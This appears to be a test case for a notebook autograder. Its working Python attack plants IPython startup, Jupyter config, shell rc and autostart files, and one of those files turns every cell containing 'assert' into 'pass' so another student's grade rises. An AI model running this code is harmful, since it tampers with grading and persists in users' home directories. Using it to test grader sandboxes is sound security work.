# /// case
# tries = "IPython, Jupyter and the shell read files at their start: each gets one that helps this student's friend zoe."
# source = "IPython's profile_default/startup, a documented hook"
# state = "wrong"
# nbgrader = "mia gains 7; zoe gains 10; 3 files written elsewhere"
# ///

# %% top
import os
from pathlib import Path

from IPython.paths import get_ipython_dir

CODE = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if 'assert' in ''.join(lines) else lines)\n"
home = {Path.home(), Path(os.path.expanduser("~"))}
targets = {Path(get_ipython_dir()) / "profile_default" / "startup" / "00-pwned.py": CODE}
for each in home:
    targets[each / ".ipython" / "profile_default" / "startup" / "00-pwned.py"] = CODE
    targets[each / ".jupyter" / "pwned_config.py"] = targets[each / ".jupyter" / "jupyter_config.py"] = CODE
    targets[each / ".bashrc"] = targets[each / ".profile"] = "touch ~/pwned\n"
    targets[each / ".config" / "autostart" / "pwned.desktop"] = "[Desktop Entry]\nExec=touch pwned\n"
for path, text in targets.items():
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    except OSError as error:
        print(error)
